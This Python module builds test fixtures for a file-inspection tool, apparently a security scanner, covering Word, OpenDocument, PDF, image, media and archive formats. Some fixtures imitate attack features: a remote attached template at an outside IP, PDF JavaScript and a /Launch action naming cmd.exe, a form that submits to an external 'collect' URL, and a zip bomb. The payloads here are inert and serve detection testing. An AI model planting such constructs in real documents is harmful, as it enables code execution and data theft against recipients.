"""Build real test files with the real libraries (python-docx, pypdf, Pillow, zipfile, wave).

Where no writer library exists for a container (OLE compound files, MP4/AVI/ASF headers, RAR 4,
PSD), the bytes are laid out from the published format specifications, just enough for the
readers the inspector uses (olefile/olevba, mutagen, rarfile, Pillow) to accept them.
"""

from __future__ import annotations

import io
import struct
import sys
import wave
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

import docx
from ole_builders import (  # noqa: F401 - re-exported for the tests
    VBA_TREE,
    cfb,
    doc_file,
    doc_with_revision_and_comment,
    ole_package,
    vba_project,
)
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)


# --- Word and OpenDocument -----------------------------------------------------------------------
def docx_file(path: Path, paragraphs: list[str], *, author: str = "Nguyễn Văn A",
              company: str = "", comment: bool = False) -> Path:
    document = docx.Document()
    document.core_properties.author = author
    document.core_properties.last_modified_by = author
    for text in paragraphs:
        document.add_paragraph(text)
    if comment:
        run = document.paragraphs[0].runs[0]
        document.add_comment(run, text="Xem lại đoạn này", author="Thư ký")
    document.save(path)
    if company:
        add_parts(path, {"docProps/app.xml": _app_xml(company)})
    return path


def _app_xml(company: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://'
            'schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>'
            f'{escape(company)}</Company></Properties>').encode()


def add_parts(path: Path, parts: dict[str, bytes]) -> Path:
    """Rewrite a ZIP package with ``parts`` added or replaced."""
    with zipfile.ZipFile(path) as source:
        kept = [(i, source.read(i)) for i in source.infolist() if i.filename not in parts]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in kept:
            target.writestr(info, data)
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def with_tracked_change(path: Path) -> Path:
    with zipfile.ZipFile(path) as package:
        xml = package.read("word/document.xml").decode()
    inserted = ('<w:p><w:ins w:id="90" w:author="Thư ký" w:date="2024-01-01T00:00:00Z"><w:r>'
                '<w:t>câu được thêm</w:t></w:r></w:ins></w:p><w:sectPr')
    return add_parts(path, {"word/document.xml": xml.replace("<w:sectPr", inserted, 1).encode()})


def with_external_template(path: Path) -> Path:
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
            'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
            '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
            ' Target="http://203.0.113.5/template.dotm" TargetMode="External"/></Relationships>')
    return add_parts(path, {"word/_rels/settings.xml.rels": rels.encode()})


def odt_file(path: Path, paragraphs: list[str], *, macro: bool = False,
             tracked: bool = False) -> Path:
    text_ns = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    body = "".join(f"<text:p>{p}</text:p>" for p in paragraphs)
    if tracked:
        body = ('<text:tracked-changes><text:changed-region text:id="c1"><text:insertion/>'
                '</text:changed-region></text:tracked-changes>') + body
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
               f'"urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="{text_ns}" '
               f'office:version="1.2"><office:body><office:text>{body}</office:text></office:body>'
               f'</office:document-content>')
    meta = ('<?xml version="1.0" encoding="UTF-8"?><office:document-meta xmlns:office="urn:oasis:'
            'names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:'
            'xmlns:meta:1.0"><office:meta><meta:initial-creator>Trần Thị B</meta:initial-creator>'
            '</office:meta></office:document-meta>')
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text",
                         compress_type=zipfile.ZIP_STORED)
        package.writestr("content.xml", content)
        package.writestr("meta.xml", meta)
        if macro:
            package.writestr("Basic/Standard/Module1.xml", "<script:module/>")
    return path


# --- PDF -----------------------------------------------------------------------------------------
def pdf_file(path: Path, pages: list[str], *, open_js: bool = False, names_js: bool = False,
             launch: bool = False, attachment: bool = False, submit: bool = False,
             password: str | None = None) -> Path:
    writer = PdfWriter()
    font = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica")}))
    for text in pages:
        page = writer.add_blank_page(595, 842)
        stream = DecodedStreamObject()
        escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        stream.set_data(f"BT /F1 12 Tf 72 770 Td ({escaped}) Tj ET".encode("latin-1"))
        page[NameObject("/Contents")] = writer._add_object(stream)
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): DictionaryObject(
            {NameObject("/F1"): font})})
    if open_js:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('xin chao');")})
    if names_js:
        script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                   NameObject("/JS"): TextStringObject("app.alert('names');")})
        tree = DictionaryObject({NameObject("/Names"): ArrayObject(
            [TextStringObject("init"), writer._add_object(script)])})
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)})
    if launch:
        _annotation(writer, {NameObject("/S"): NameObject("/Launch"),
                             NameObject("/F"): TextStringObject("cmd.exe")})
    if submit:
        _annotation(writer, {NameObject("/S"): NameObject("/SubmitForm"),
                             NameObject("/F"): TextStringObject("http://203.0.113.9/collect")})
    if attachment:
        writer.add_attachment("ghi-chu.txt", b"noi dung dinh kem")
    if password:
        writer.encrypt(password, algorithm="AES-128")
    with open(path, "wb") as handle:
        writer.write(handle)
    return path


def _annotation(writer: PdfWriter, action: dict) -> None:
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50),
                                          FloatObject(50)]),
        NameObject("/A"): DictionaryObject(action)})
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])


# --- images --------------------------------------------------------------------------------------
def image_file(path: Path, fmt: str, size: tuple[int, int] = (64, 48), *,
               gps: bool = False, orientation: int | None = None) -> Path:
    image = Image.new("RGB", size, (30, 120, 200))
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    if gps:
        ifd = exif.get_ifd(0x8825)
        ifd.update({1: "N", 2: (21.0, 1.0, 30.0), 3: "E", 4: (105.0, 51.0, 0.0)})
    kwargs = {"exif": exif.tobytes()} if (gps or orientation) else {}
    image.save(path, format=fmt, **kwargs)
    return path


def animated_gif(path: Path, frames: int = 3) -> Path:
    images = [Image.new("RGB", (20, 20), (i * 60, 255 - i * 60, 0)) for i in range(frames)]
    images[0].save(path, save_all=True, append_images=images[1:], duration=100, loop=0)
    return path


def psd_file(path: Path, width: int = 8, height: int = 6) -> Path:
    """Photoshop header (version 1, 3 channels, 8 bits, RGB), no layers, raw image data."""
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3)
    data = struct.pack(">I", 0) + struct.pack(">I", 0) + struct.pack(">I", 0)
    pixels = struct.pack(">H", 0) + bytes(width * height * 3)
    path.write_bytes(header + data + pixels)
    return path


# --- audio and video -----------------------------------------------------------------------------
def wav_file(path: Path, seconds: float = 0.5) -> Path:
    with wave.open(str(path), "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"\0\0" * int(8000 * seconds))
    return path


def mp3_file(path: Path, frames: int = 40) -> Path:
    """MPEG-1 layer III frames, 128 kbps 44.1 kHz (417 bytes each), silent payload."""
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    path.write_bytes(frame * frames)
    return path


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4_bytes(duration_s: int = 10, mdat_size: int = 1024) -> tuple[bytes, bytes]:
    """(ftyp+moov, mdat header) of an ISO-BMFF file with one avc1 video track."""
    mvhd = _box(b"mvhd", b"\0" * 12 + struct.pack(">II", 1000, duration_s * 1000) + b"\0" * 80)
    hdlr = _box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 13)
    stsd = _box(b"stsd", b"\0" * 4 + struct.pack(">I", 1) + _box(b"avc1", b"\0" * 78))
    trak = _box(b"trak", _box(b"mdia", hdlr + _box(b"minf", _box(b"stbl", stsd))))
    head = _box(b"ftyp", b"isom\0\0\2\0isomavc1") + _box(b"moov", mvhd + trak)
    return head, struct.pack(">I", 8 + mdat_size) + b"mdat"


def mp4_file(path: Path, duration_s: int = 10) -> Path:
    head, mdat = mp4_bytes(duration_s)
    path.write_bytes(head + mdat + bytes(1024))
    return path


def avi_file(path: Path, frames: int = 50) -> Path:
    avih = b"avih" + struct.pack("<I", 56) + struct.pack("<IIIIIIIIII", 40000, 0, 0, 0, frames,
                                                          0, 1, 0, 320, 240) + b"\0" * 16
    strh = b"strh" + struct.pack("<I", 56) + b"vidsMJPG" + b"\0" * 48
    strl = b"LIST" + struct.pack("<I", 4 + len(strh)) + b"strl" + strh
    hdrl = b"LIST" + struct.pack("<I", 4 + len(avih) + len(strl)) + b"hdrl" + avih + strl
    movi = b"LIST" + struct.pack("<I", 4) + b"movi"
    body = b"AVI " + hdrl + movi
    path.write_bytes(b"RIFF" + struct.pack("<I", len(body)) + body)
    return path


def asf_file(path: Path, video: bool = True) -> Path:
    """ASF header object with file properties and one stream properties object."""
    def guid(text: str) -> bytes:
        import uuid
        return uuid.UUID(text).bytes_le

    fileprops = guid("8CABDCA1-A947-11CF-8EE4-00C00C205365")
    body = (guid("00000000-0000-0000-0000-000000000000") + struct.pack("<QQQQQQIIII", 0, 0, 1,
            30 * 10_000_000, 30 * 10_000_000, 0, 2, 3200, 3200, 128000))
    file_obj = fileprops + struct.pack("<Q", 24 + len(body)) + body
    media = guid("BC19EFC0-5B4D-11CF-A8FD-00805F5C442B" if video
                 else "F8699E40-5B4D-11CF-A8FD-00805F5C442B")
    waveformat = struct.pack("<HHIIHHH", 0x161, 2, 44100, 16000, 2048, 16, 0)  # WMA v2
    sbody = (media + guid("20FB5700-5B55-11CF-A8FD-00805F5C442B") +
             struct.pack("<QIIH4x", 0, len(waveformat), 0, 1) + waveformat)
    stream_guid = guid("B7DC0791-A9B7-11CF-8EE6-00C00C205365")
    stream_obj = stream_guid + struct.pack("<Q", 24 + len(sbody)) + sbody
    objects = file_obj + stream_obj
    header = guid("75B22630-668E-11CF-A6D9-00AA0062CE6C") + struct.pack(
        "<QIBB", 30 + len(objects), 2, 1, 2) + objects
    data = guid("75B22636-668E-11CF-A6D9-00AA0062CE6C") + struct.pack("<Q", 50) + bytes(26)
    path.write_bytes(header + data)
    return path


# --- archives ------------------------------------------------------------------------------------
def zip_file(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return path


def zip_bomb(path: Path, megabytes: int = 64) -> Path:
    """One entry of zeros, streamed in 1 MiB chunks (never held whole in memory)."""
    chunk = bytes(1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive, \
            archive.open("zeros.bin", "w", force_zip64=True) as entry:
        for _ in range(megabytes):
            entry.write(chunk)
    return path


def rar4_file(path: Path, entries: dict[str, bytes]) -> Path:
    """A RAR 4 archive with stored (uncompressed) files, headers CRC'd as the format requires."""
    def block(head_type: int, flags: int, body: bytes, add: bytes = b"") -> bytes:
        size = 7 + len(body)
        raw = struct.pack("<BHH", head_type, flags, size) + body
        return struct.pack("<H", zlib.crc32(raw) & 0xFFFF) + raw + add

    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, b"\0" * 6)
    for name, data in entries.items():
        encoded = name.encode()
        body = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data), 0x5A210000,
                           20, 0x30, len(encoded), 0x20) + encoded
        out += block(0x74, 0x8000, body, data)
    out += block(0x7B, 0x4000, b"")
    path.write_bytes(out)
    return path


def executable_copy(path: Path) -> Path:
    """A real program: the running Python interpreter's executable, under another name."""
    path.write_bytes(Path(sys.executable).resolve().read_bytes())
    return path


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (250, 10, 10)).save(out, format="PNG")
    return out.getvalue()
